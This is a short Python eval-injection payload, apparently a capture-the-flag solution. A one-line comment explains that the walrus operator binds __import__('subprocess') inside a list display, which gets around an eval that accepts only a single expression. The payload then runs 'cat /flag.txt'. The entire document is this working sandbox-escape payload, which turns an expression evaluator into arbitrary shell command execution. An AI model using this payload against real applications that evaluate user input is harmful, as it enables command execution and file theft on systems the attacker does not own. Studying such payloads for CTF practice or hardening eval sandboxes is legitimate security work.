# restriction: single expression for eval, no statements; idea: walrus binds the module inside a list display and the next element uses it
[m:=__import__('subprocess'),m.run(['cat','/flag.txt'])]
